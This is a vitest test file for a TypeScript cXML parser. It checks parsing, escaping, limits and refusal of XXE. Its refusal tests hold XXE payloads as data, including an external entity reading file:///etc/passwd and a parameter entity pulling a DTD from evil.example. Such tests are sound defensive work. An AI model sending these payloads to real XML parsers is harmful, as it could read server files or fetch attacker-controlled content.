import { describe, expect, it } from 'vitest';
import { attribute, child, children, escapeXml, parseXml, textOf, writeXml, x, XmlRefused } from './xml';

const refusal = (text: string): XmlRefused => {
  try {
    parseXml(text);
  } catch (error) {
    if (error instanceof XmlRefused) return error;
    throw error;
  }
  throw new Error('the document was read');
};

describe('parseXml reads the cXML subset liberally', () => {
  it('reads a document with a BOM, a declaration, comments, either quote, CDATA and the five escapes', () => {
    const root = parseXml(`\uFEFF<?xml version="1.0" encoding="UTF-8"?>
<!-- from the procurement system -->
<cXML payloadID='1@buyer' timestamp="2026-05-04T10:00:00-04:00">
  <Header><From><Credential domain="NetworkID"><Identity>AN01</Identity></Credential></From></Header>
  <Note>Pots &amp; trays &lt;12&gt; &quot;black&quot; &apos;10&apos; &#233;t&#xE9;<![CDATA[ <raw> & ]]></Note>
</cXML>`);
    expect(root.name).toBe('cXML');
    expect(attribute(root, 'payloadid')).toBe('1@buyer');
    expect(textOf(child(root, 'header', 'FROM', 'Credential', 'Identity'))).toBe('AN01');
    expect(attribute(child(root, 'Header', 'From', 'Credential'), 'Domain')).toBe('NetworkID');
    expect(textOf(child(root, 'Note'))).toBe(`Pots & trays <12> "black" '10' été <raw> &`);
  });

  it('compares names by their local part, so a namespace prefix changes nothing', () => {
    const root = parseXml('<c:cXML xmlns:c="urn:x"><c:Header/><c:Header/></c:cXML>');
    expect(children(root, 'Header')).toHaveLength(2);
  });

  it('accepts the bare reference to the cXML DTD every procurement system sends, and fetches nothing', () => {
    const root = parseXml('<?xml version="1.0"?>\n<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">\n<cXML/>');
    expect(root.name).toBe('cXML');
  });
});

describe('parseXml refuses what could reach outside the document (XXE)', () => {
  it('refuses an external entity declared in an internal subset, and reads nothing of it', () => {
    const error = refusal(`<?xml version="1.0"?>
<!DOCTYPE cXML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<cXML><Note>&xxe;</Note></cXML>`);
    expect(error.kind).toBe('doctype');
  });

  it('refuses the cXML DTD reference with an internal subset added to it', () => {
    expect(refusal('<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd" [<!ENTITY a "b">]><cXML/>').kind).toBe('doctype');
  });

  it('refuses any other DOCTYPE: another DTD address, a PUBLIC one, a parameter entity', () => {
    expect(refusal('<!DOCTYPE cXML SYSTEM "http://evil.example/cXML.dtd"><cXML/>').kind).toBe('doctype');
    expect(refusal('<!DOCTYPE cXML PUBLIC "-//x" "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML/>').kind).toBe('doctype');
    expect(refusal('<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><cXML/>').kind).toBe('doctype');
  });

  it('refuses a declaration anywhere, and a reference to an entity nobody declared', () => {
    expect(refusal('<cXML><!ENTITY a "b"></cXML>').kind).toBe('doctype');
    expect(refusal('<cXML>&xxe;</cXML>').kind).toBe('entity');
    expect(refusal('<cXML a="&xxe;"/>').kind).toBe('entity');
  });

  it('refuses malformed documents with the reason', () => {
    expect(refusal('<a><b></a></b>').message).toContain('</a> closes <b>');
    expect(refusal('<a>').message).toContain('<a> is not closed');
    expect(refusal('<a x="1" x="2"/>').message).toContain('twice');
    expect(refusal('<a/><b/>').message).toContain('second root');
    expect(refusal('<a>fish & chips</a>').kind).toBe('malformed');
    expect(refusal('<a>&#0;</a>').kind).toBe('malformed');
    expect(refusal('just text').kind).toBe('malformed');
  });

  it('refuses documents deeper or longer than its limits', () => {
    expect(refusal(`${'<a>'.repeat(70)}${'</a>'.repeat(70)}`).kind).toBe('limit');
    expect(() => parseXml(`<a>${'x'.repeat(50)}</a>`, { maxLength: 20 })).toThrow(/longer than 20/);
  });
});

describe('writing', () => {
  it('escapes the five characters and drops what XML 1.0 does not allow', () => {
    expect(escapeXml(`<b>"Bold" & 'bright'</b>\u0001\uFFFE`)).toBe('&lt;b&gt;&quot;Bold&quot; &amp; &apos;bright&apos;&lt;/b&gt;');
  });

  it('writes what it reads back the same', () => {
    const written = writeXml(x('ItemIn', { quantity: '2', lineNumber: '1' }, x('Description', { 'xml:lang': 'en' }, '<b>Bold</b> Tray & "more"'), x('Empty')));
    const read = parseXml(written);
    expect(attribute(read, 'quantity')).toBe('2');
    expect(textOf(child(read, 'Description'))).toBe('<b>Bold</b> Tray & "more"');
    expect(child(read, 'Empty')).not.toBeNull();
  });
});
